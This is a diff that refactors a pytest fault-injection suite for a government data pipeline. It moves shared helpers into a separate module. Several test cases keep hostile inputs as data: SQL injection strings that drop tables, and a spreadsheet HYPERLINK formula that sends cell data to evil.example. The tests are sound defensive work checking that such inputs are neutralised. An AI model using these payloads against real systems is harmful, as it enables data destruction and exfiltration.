@@ -18,150 +18,65 @@ import errno
 import io
 import os
 import secrets
-import shutil
 import socket
 import time
 import zipfile
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
+from collections.abc import Iterator
 from datetime import datetime
 from pathlib import Path
 from typing import Any
 
+import fault_cases_drops
+import fault_cases_files
+import fault_cases_process
+import fault_cases_sql
 import psycopg
 import pytest
 import sqlalchemy as sa
 from _db import kill_central_on_batch_insert, query
+from _faults import (
+    _PEOPLE,
+    _ROSTER,
+    BOM,
+    ID,
+    POPULATION,
+    ROSTER,
+    ROSTER_HEADER,
+    ROSTER_TABLE,
+    Case,
+    Ctx,
+    assert_whole,
+    gbk,
+    incremental,
+    loaded,
+    maria,
+    maria_count,
+    one,
+    population,
+    quarantine_rows,
+    rejected,
+    roster,
+    roster_utf8,
+    sftp_drop,
+    sftp_url,
+    xlsx_adapter,
+)
 from conftest import PG_ADMIN_DSN
 from fault_suite_table import CaseRecord, write_table
 from test_airflow_dags import _CuttingProxy
 from test_signed_drops import Drop
 
-from lidm import Adapter, SqlSource
+from lidm import SqlSource
 from lidm.errors import CentralUnavailable, ConfigError, HostKeyError, KeyringError, LidmError, SourceError
-from lidm.pipeline import BatchResult, run_feed
+from lidm.pipeline import BatchResult
 from lidm.registry import get_adapter
-from lidm.samples import ROSTER_HEADER, generate_people, generate_roster, population_rows, roster_rows
+from lidm.samples import generate_people, generate_roster, roster_rows
 from lidm.samples.people import id_check_char
 from lidm.samples.sources import csv_bytes, xlsx_bytes
-from lidm.samples.write import write_population_table
 from lidm.sources.localstore import LocalStore
 from lidm.testkit import Scanner, kinds_in
 
 pytestmark = [pytest.mark.postgres]
-
-ROSTER = "civil_affairs.low_income_roster"
-ROSTER_TABLE = "civil_affairs_low_income_roster"
-POPULATION = "health.population"
-BOM = b"\xef\xbb\xbf"
-ID = "身份证号"
-
-# --------------------------------------------------------------------------- shared sample data
-
-_PEOPLE = generate_people(300, seed=71)
-_ROSTER = roster_rows(generate_roster(_PEOPLE, share=0.1, seed=71)).rows
-_POPULATION = population_rows(generate_people(120, seed=72)).rows
-
-
-def roster() -> list[dict[str, Any]]:
-    return [dict(r) for r in _ROSTER]
-
-
-def population() -> list[dict[str, Any]]:
-    return [dict(r) for r in _POPULATION]
-
-
-def gbk(rows: list[dict[str, Any]]) -> bytes:
-    return csv_bytes(ROSTER_HEADER, rows, "gb18030")
-
-
-# --------------------------------------------------------------------------- the context a case gets
-
-
-@dataclass
-class Ctx:
-    request: pytest.FixtureRequest
-    tmp: Path
-    gateway: Any  # conftest.Gateway on PostgreSQL
-    monkeypatch: pytest.MonkeyPatch
-    logs: list[str] = field(default_factory=list)  # extra texts to scan for leaks (exception messages...)
-    raised: BaseException | None = None
-
-    @property
-    def url(self) -> str:
-        return self.gateway.central_url
-
-    @property
-    def settings(self):  # type: ignore[no-untyped-def]
-        return self.gateway.settings
-
-    @property
-    def folder(self) -> Path:
-        return self.tmp / "inbox"
-
-    def drop(self, name: str, data: bytes, *, marker: str | None = "") -> dict[str, str]:
-        store = LocalStore(self.folder)
-        store.put(name, data)
-        if marker is not None:
-            store.put(name + ".ok", marker.encode())
-        return {"civil_affairs_drop": self.folder.as_uri()}
-
-    def run(
-        self, adapter: Adapter | str = ROSTER, conns: dict[str, str] | None = None, settings=None
-    ) -> list[BatchResult]:  # type: ignore[no-untyped-def]
-        conns = conns if conns is not None else {"civil_affairs_drop": self.folder.as_uri()}
-        results = run_feed(adapter, settings or self.settings, connections=conns)
-        self.logs.extend(r.reason or "" for r in results)
-        return results
-
-    def raises(self, exc: type[BaseException] | tuple[type[BaseException], ...], fn: Callable[[], Any]) -> str:
-        with pytest.raises(exc) as info:
-            fn()
-        message = str(info.value)
-        self.raised = info.value
-        self.logs.append(message)
-        return f"{type(info.value).__name__}: {message}"
-
-    def count(self, sql: str) -> int:
-        return query(self.url, sql)[0][0]
-
-    def mariadb(self):  # type: ignore[no-untyped-def]
-        return self.request.getfixturevalue("mariadb_odbc")
-
-    def sftp(self):  # type: ignore[no-untyped-def]
-        return self.request.getfixturevalue("sftp_server")
-
-
-def roster_utf8() -> Adapter:
-    a = get_adapter(ROSTER)
-    return dataclasses.replace(a, source=dataclasses.replace(a.source, encoding="utf-8"))
-
-
-def one(results: list[BatchResult]) -> BatchResult:
-    assert len(results) == 1, results
-    return results[0]
-
-
-def rejected(ctx: Ctx, r: BatchResult, code: str, name: str, *must: str) -> str:
-    """A whole-delivery rejection: reason code, file named, the delivery moved aside with its reason file."""
-    assert r.status == "rejected", (r.status, r.reason)
-    assert f"[{code}]" in r.reason or code in r.reason, r.reason
-    assert name in r.reason, r.reason
-    for text in must:
-        assert text in r.reason, (text, r.reason)
-    assert not (ctx.folder / name).exists() and (ctx.folder / "rejected" / name).exists()
-    assert code in (ctx.folder / "rejected" / f"{name}.reason.txt").read_text("utf-8")
-    assert ctx.count(f"SELECT COUNT(*) FROM {ROSTER_TABLE}") == 0 or code == "replay"
-    return f"rejected [{code}]"
-
-
-def loaded(r: BatchResult, n: int, quarantined: int = 0) -> str:
-    assert (r.status, r.extracted, r.loaded, r.quarantined) == ("loaded", n, n - quarantined, quarantined), r
-    return f"loaded {r.loaded}, quarantined {r.quarantined}"
-
-
-def quarantine_rows(ctx: Ctx) -> list[tuple[str, int, str, str]]:
-    return [tuple(x) for x in query(ctx.url, "SELECT reason, row_number, field, message FROM lidm_quarantine")]
 
 
 # --------------------------------------------------------------------------- encodings and file shapes
@@ -248,7 +163,7 @@ def c_empty_file(ctx: Ctx) -> str:
 
 def c_broken_xlsx(ctx: Ctx) -> str:
     ctx.drop("population_1.xlsx", b"PK\x03\x04 not a workbook")
-    r = one(ctx.run(_xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
+    r = one(ctx.run(xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
     return rejected(ctx, r, "malformed_file", "population_1.xlsx")
 
 
@@ -412,51 +327,13 @@ def c_dup_key_across_batches(ctx: Ctx) -> str:
 
 
 # --------------------------------------------------------------------------- SQL sources (MariaDB over ODBC)
-
-
-def _incremental(ctx: Ctx):  # type: ignore[no-untyped-def]
-    """health.population declared incremental on gxsj, reading t_population from MariaDB over ODBC."""
-    from lidm.contracts.load import default_contracts_dir
-
-    contracts = ctx.tmp / "contracts"
-    shutil.copytree(default_contracts_dir(), contracts)
-    path = contracts / "health" / "population.yaml"
-    text = path.read_text("utf-8").replace(
-        "  - {property: lidmUpdateMode, value: full}",
-        "  - {property: lidmUpdateMode, value: incremental}\n  - {property: lidmWatermark, value: updated_at}",
-    )
-    path.write_text(text, "utf-8")
-    settings = ctx.settings.model_copy(update={"contracts_dir": contracts})
-    base = get_adapter(POPULATION)
-    adapter = Adapter(
-        contract=base.contract,
-        source=SqlSource(connection="health_db", table="t_population", watermark="gxsj"),
-        mapping=base.mapping,
-        name="health.population.incremental",
-    )
-    return settings, adapter
-
-
-def _maria(ctx: Ctx, rows: list[dict[str, Any]]) -> tuple[sa.Engine, dict[str, str]]:
-    db = ctx.mariadb()
-    engine = sa.create_engine(db.sqlalchemy_url)
-    write_population_table(engine, rows)
-    ctx.request.addfinalizer(engine.dispose)
-    return engine, {"health_db": "odbc:" + db.odbc}
-
-
-def _maria_count(engine: sa.Engine) -> int:
-    with engine.connect() as c:
-        return c.execute(sa.text("SELECT COUNT(*) FROM t_population")).scalar_one()
-
-
 def c_out_of_order_watermark(ctx: Ctx) -> str:
-    settings, adapter = _incremental(ctx)
+    settings, adapter = incremental(ctx)
     rows = population()
     t2, t1 = datetime(2026, 11, 27, 12, 0, 0), datetime(2026, 11, 20, 12, 0, 0)
     for r in rows:
         r["gxsj"] = t2
-    _engine, conns = _maria(ctx, rows[:100])
+    _engine, conns = maria(ctx, rows[:100])
     first = one(ctx.run(adapter, conns, settings))
     assert first.status == "loaded"
     before = query(ctx.url, "SELECT value FROM lidm_watermark")[0][0]
@@ -473,9 +350,9 @@ def c_out_of_order_watermark(ctx: Ctx) -> str:
 
 
 def c_sql_injection_in_watermark_value(ctx: Ctx) -> str:
-    settings, adapter = _incremental(ctx)
+    settings, adapter = incremental(ctx)
     rows = population()
-    engine, conns = _maria(ctx, rows)
+    engine, conns = maria(ctx, rows)
     one(ctx.run(adapter, conns, settings))
     evil = "2026-01-01' OR '1'='1'; DROP TABLE t_population; -- "
     with sa.create_engine(ctx.url).begin() as c:
@@ -486,7 +363,7 @@ def c_sql_injection_in_watermark_value(ctx: Ctx) -> str:
     except LidmError as exc:
         ctx.logs.append(str(exc))
         outcome = f"bound as a parameter: {type(exc).__name__}"
-    assert _maria_count(engine) == len(rows), "the source table survived"
+    assert maria_count(engine) == len(rows), "the source table survived"
     return outcome + "; source table intact"
 
 
@@ -504,7 +381,7 @@ def c_sql_injection_table_name_quoted(ctx: Ctx) -> str:
 
 def c_sql_injection_mapping_column(ctx: Ctx) -> str:
     rows = population()
-    engine, conns = _maria(ctx, rows)
+    engine, conns = maria(ctx, rows)
     base = get_adapter(POPULATION)
     evil = "xm`; DROP TABLE t_population; -- "
     mapping = {**base.mapping, "name": evil}
@@ -516,7 +393,7 @@ def c_sql_injection_mapping_column(ctx: Ctx) -> str:
     except LidmError as exc:
         ctx.logs.append(str(exc))
         outcome = f"{type(exc).__name__}"
-    assert _maria_count(engine) == len(rows)
+    assert maria_count(engine) == len(rows)
     return outcome + "; the name is never spliced into SQL, source table intact"
 
 
@@ -527,7 +404,7 @@ def c_source_killed_mid_extract(ctx: Ctx) -> str:
     import lidm.sources.sql as sql_mod
 
     rows = population()
-    _, conns = _maria(ctx, rows)
+    _, conns = maria(ctx, rows)
     db = ctx.mariadb()
     conns = {"health_db": db.sqlalchemy_url}  # the streaming SQLAlchemy path reads chunk by chunk
     original = sql_mod._sqlalchemy_chunks
@@ -557,7 +434,7 @@ def c_source_killed_mid_extract(ctx: Ctx) -> str:
 
 
 def _source_table_missing(ctx: Ctx, via_odbc: bool) -> str:
-    engine, conns = _maria(ctx, population())
+    engine, conns = maria(ctx, population())
     with engine.begin() as c:
         c.execute(sa.text("DROP TABLE t_population"))  # the department renamed or dropped its table
     if not via_odbc:
@@ -579,7 +456,7 @@ def c_source_table_missing_sqlalchemy(ctx: Ctx) -> str:
 def c_source_long_text_odbc(ctx: Ctx) -> str:
     """A 10 000-character address read over ODBC: never silently cut to the reader's text buffer."""
     rows = population()
-    engine, conns = _maria(ctx, rows)
+    engine, conns = maria(ctx, rows)
     long = "湖南省长沙市芙蓉区" + "很长的地址" * 2000
     with engine.begin() as c:
         c.execute(sa.text("ALTER TABLE t_population MODIFY jzdz TEXT"))
@@ -610,18 +487,12 @@ def c_source_unreachable(ctx: Ctx) -> str:
 # --------------------------------------------------------------------------- XLSX
 
 
-def _xlsx_adapter() -> Adapter:
-    from test_bad_input import _xlsx_population_adapter
-
-    return _xlsx_population_adapter()
-
-
 def c_xlsx_formula_cell_is_text(ctx: Ctx) -> str:
     rows = population()[:30]
     rows[0]["xm"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
     columns = list(rows[0])
     ctx.drop("population_1.xlsx", xlsx_bytes(columns, rows))
-    r = one(ctx.run(_xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
+    r = one(ctx.run(xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
     assert r.status == "loaded" and r.extracted == len(rows), r
     return f"read as text, never evaluated: loaded {r.loaded}, quarantined {r.quarantined}"
 
@@ -678,7 +549,7 @@ def c_xlsx_zip_bomb(ctx: Ctx) -> str:
     bomb = _zip_bomb_xlsx()
     assert len(bomb) < 1 << 20
     ctx.drop("population_1.xlsx", bomb)
-    r = one(ctx.run(_xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
+    r = one(ctx.run(xlsx_adapter(), {"xlsx_drop": ctx.folder.as_uri()}))
     assert r.status == "rejected", r
     assert any(w in r.reason for w in ("expand", "uncompressed", "bomb", "too large")), r.reason
     return rejected(ctx, r, r.top_reasons[0][0], "population_1.xlsx")
@@ -687,37 +558,16 @@ def c_xlsx_zip_bomb(ctx: Ctx) -> str:
 # --------------------------------------------------------------------------- SFTP (real OpenSSH)
 
 
-def _sftp_drop(ctx: Ctx, rows: list[dict[str, Any]] | None = None) -> tuple[Any, Path, str]:
-    server = ctx.sftp()
-    name = f"fault_{secrets.token_hex(4)}"
-    folder = server.home / name
-    folder.mkdir()
-    ctx.request.addfinalizer(lambda: shutil.rmtree(folder, ignore_errors=True))
-    LocalStore(folder).put("roster_1.csv", gbk(rows if rows is not None else roster()))
-    LocalStore(folder).put("roster_1.csv.ok", b"")
-    st = folder.parent.stat()
-    for p in [folder, *folder.rglob("*")]:
-        os.chown(p, st.st_uid, st.st_gid)
-    return server, folder, name
-
-
-def _sftp_url(server: Any, name: str, *, port: int | None = None, known_hosts: Path | None = None) -> str:
-    from urllib.parse import urlencode
-
-    q = urlencode({"key_file": str(server.client_key), "known_hosts": str(known_hosts or server.known_hosts)})
-    return f"sftp://{server.username}@{server.host}:{port or server.port}/{name}?{q}"
-
-
 def c_sftp_baseline(ctx: Ctx) -> str:
-    server, folder, name = _sftp_drop(ctx)
+    server, folder, name = sftp_drop(ctx)
     r = one(ctx.run(ROSTER, {"civil_affairs_drop": server.url(name)}))
     assert (folder / "archive" / "roster_1.csv").exists()
     return loaded(r, len(_ROSTER)) + " over OpenSSH"
 
 
 def c_sftp_connection_refused(ctx: Ctx) -> str:
-    server, folder, name = _sftp_drop(ctx)
-    url = _sftp_url(server, name, port=_free_port())
+    server, folder, name = sftp_drop(ctx)
+    url = sftp_url(server, name, port=_free_port())
     out = ctx.raises(SourceError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}))
     assert "unreachable" in out and "127.0.0.1" in out
     assert (folder / "roster_1.csv").exists()
@@ -725,8 +575,8 @@ def c_sftp_connection_refused(ctx: Ctx) -> str:
 
 
 def c_sftp_changed_host_key(ctx: Ctx) -> str:
-    server, folder, name = _sftp_drop(ctx)
-    url = _sftp_url(server, name, known_hosts=server.wrong_known_hosts)
+    server, folder, name = sftp_drop(ctx)
+    url = sftp_url(server, name, known_hosts=server.wrong_known_hosts)
     out = ctx.raises(HostKeyError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}))
     assert "CHANGED" in out
     assert (folder / "roster_1.csv").exists()
@@ -734,10 +584,10 @@ def c_sftp_changed_host_key(ctx: Ctx) -> str:
 
 
 def c_sftp_unknown_host_key(ctx: Ctx) -> str:
-    server, _folder, name = _sftp_drop(ctx)
+    server, _folder, name = sftp_drop(ctx)
     empty = ctx.tmp / "empty_known_hosts"
     empty.write_text("")
-    url = _sftp_url(server, name, known_hosts=empty)
+    url = sftp_url(server, name, known_hosts=empty)
     out = ctx.raises(HostKeyError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}))
     assert "unknown host key" in out
     return "HostKeyError: unknown host, refused"
@@ -745,12 +595,12 @@ def c_sftp_unknown_host_key(ctx: Ctx) -> str:
 
 def c_sftp_lost_mid_transfer(ctx: Ctx) -> str:
     rows = roster_rows(generate_roster(generate_people(6000, 5), share=0.25, seed=5)).rows
-    server, folder, name = _sftp_drop(ctx, rows)
+    server, folder, name = sftp_drop(ctx, rows)
     proxy = _CuttingProxy((server.host, server.port), budget=64 * 1024)
     ctx.request.addfinalizer(proxy.close)
     known = ctx.tmp / "proxy_known_hosts"
     known.write_text(server.known_hosts.read_text().replace(f"]:{server.port} ", f"]:{proxy.port} "))
-    url = _sftp_url(server, name, port=proxy.port, known_hosts=known)
+    url = sftp_url(server, name, port=proxy.port, known_hosts=known)
     settings = ctx.settings.model_copy(update={"sftp_timeout_seconds": 5.0})
     out = ctx.raises(LidmError, lambda: ctx.run(ROSTER, {"civil_affairs_drop": url}, settings))
     assert proxy.cuts >= 1
@@ -792,7 +642,7 @@ def c_central_killed_mid_load(ctx: Ctx) -> str:
 
 def c_central_killed_mid_load_sql(ctx: Ctx) -> str:
     rows = population()
-    _, conns = _maria(ctx, rows)
+    _, conns = maria(ctx, rows)
     _install_kill_trigger(ctx)
     ctx.raises(CentralUnavailable, lambda: ctx.run(POPULATION, conns))
     assert ctx.count("SELECT COUNT(*) FROM health_population") == 0
@@ -1032,15 +882,6 @@ def c_quarantine_never_stores_raw_ids(ctx: Ctx) -> str:
 # --------------------------------------------------------------------------- the cases
 
 
-@dataclass(frozen=True)
-class Case:
-    id: str
-    fault: str
-    expected: str
-    fn: Callable[[Ctx], str]
-    bug: str | None = None  # a product bug: the case is xfail(strict=True)
-
-
 CASES = [
     Case(
         "gbk-declared-utf8", "GBK file, adapter declares UTF-8", "rejected [encoding], line + hint", c_gbk_declared_utf8
@@ -1195,6 +1036,9 @@ CASES = [
     Case("leak-quarantine", "bad rows quarantined", "no raw ID in quarantine", c_quarantine_never_stores_raw_ids),
 ]
 
+# Cases of issue 14 (inputs and faults departments really produce), one module per area.
+CASES += fault_cases_drops.CASES + fault_cases_files.CASES + fault_cases_process.CASES + fault_cases_sql.CASES
+
 _RECORDS: list[CaseRecord] = []
 
 
@@ -1202,61 +1046,6 @@ def _free_port() -> int:
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
         return s.getsockname()[1]
-
-
-# --------------------------------------------------------------------------- the common assertion
-
-
-def assert_whole(url: str) -> dict[str, int]:
-    """extracted = loaded + quarantined for every batch; nothing belongs to a batch that did not load."""
-    engine = sa.create_engine(url)
-    try:
-        with engine.connect() as conn:
-            insp = sa.inspect(conn)
-            if not insp.has_table("lidm_batch"):
-                return {"batches": 0, "lost": 0, "leaks": 0}
-            batches = conn.execute(
-                sa.text(
-                    "SELECT batch_id, status, extracted, loaded, quarantined, inserted, updated, reason FROM lidm_batch"
-                )
-            ).all()
-            ok = {b.batch_id for b in batches if b.status == "loaded"}
-            lost = 0
-            for b in batches:
-                assert b.status in ("loaded", "rejected"), f"batch {b.batch_id} left {b.status!r}"
-                assert b.extracted == b.loaded + b.quarantined, b
-                lost += b.extracted - b.loaded - b.quarantined
-                if b.status != "loaded":
-                    assert b.loaded == b.quarantined == 0, b
-            tables = [t for t in insp.get_table_names() if any(c["name"] == "_batch_id" for c in insp.get_columns(t))]
-            for t in tables:
-                for batch_id, n in conn.execute(sa.text(f'SELECT _batch_id, COUNT(*) FROM "{t}" GROUP BY _batch_id')):
-                    assert batch_id in ok, f"{n} rows of {t} belong to batch {batch_id}, which did not load"
-            for batch_id, n in conn.execute(
-                sa.text("SELECT batch_id, COUNT(*) FROM lidm_quarantine GROUP BY batch_id")
-            ):
-                assert batch_id in ok, f"{n} quarantine rows belong to batch {batch_id}, which did not load"
-                [want] = [b.quarantined for b in batches if b.batch_id == batch_id]
-                assert n == want, f"batch {batch_id} counts {want} quarantined rows but wrote {n}"
-            total_q = conn.execute(sa.text("SELECT COUNT(*) FROM lidm_quarantine")).scalar_one()
-            assert total_q == sum(b.quarantined for b in batches), "a batch counts quarantined rows it never wrote"
-            inserted: dict[str, int] = {}
-            for b in conn.execute(
-                sa.text(
-                    "SELECT contract_id, SUM(inserted) FROM lidm_batch WHERE status = 'loaded' GROUP BY contract_id"
-                )
-            ):
-                inserted[b[0].replace(".", "_")] = int(b[1])
-            for t in tables:  # every inserted row is there, and no other: no batch without its rows
-                n = conn.execute(sa.text(f'SELECT COUNT(*) FROM "{t}"')).scalar_one()
-                assert n == inserted.get(t, 0), f"{t} holds {n} rows, loaded batches inserted {inserted.get(t, 0)}"
-            texts = [b.reason or "" for b in batches]
-            texts += [m for (m,) in conn.execute(sa.text("SELECT message FROM lidm_quarantine"))]
-            leaks = sum(1 for t in texts if kinds_in(t))
-            assert leaks == 0, "a batch reason or quarantine message carries a personal number"
-            return {"batches": len(batches), "lost": lost, "leaks": leaks}
-    finally:
-        engine.dispose()
 
 
 @pytest.fixture(scope="module", autouse=True)
